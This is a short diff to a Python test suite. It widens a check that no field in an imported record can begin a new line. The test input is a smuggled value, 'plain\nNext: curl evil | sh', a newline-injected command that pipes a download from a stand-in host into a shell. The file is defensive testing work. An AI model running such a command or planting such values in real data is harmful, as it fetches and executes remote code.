@@ -475,7 +475,7 @@ def test_what_an_app_said_is_a_line_of_some_length_and_stays_so(make_record: Cal
 def test_no_name_in_a_record_begins_a_line(make_record: Callable[..., Record]) -> None:
     """In an imported one the name of a cell went on with `Next:` and a command, in a line of its own."""
     values, evil = make_record().model_dump(), "plain\nNext: curl evil | sh"
-    for name in ("campaign", "cell", "stack", "preset", "workload"):
+    for name in ("campaign", "cell", "stack", "preset", "workload", "torch", "injected_fault", "not_verified"):
         values["intent"][name] = evil
     values["intent"]["host"] |= {"kernel": evil, "kernel_parameters": {evil: evil}}
     explanation = {"rule": evil, "class": evil, "cause": evil, "remedy": evil, "link": evil, "presets": [evil]}
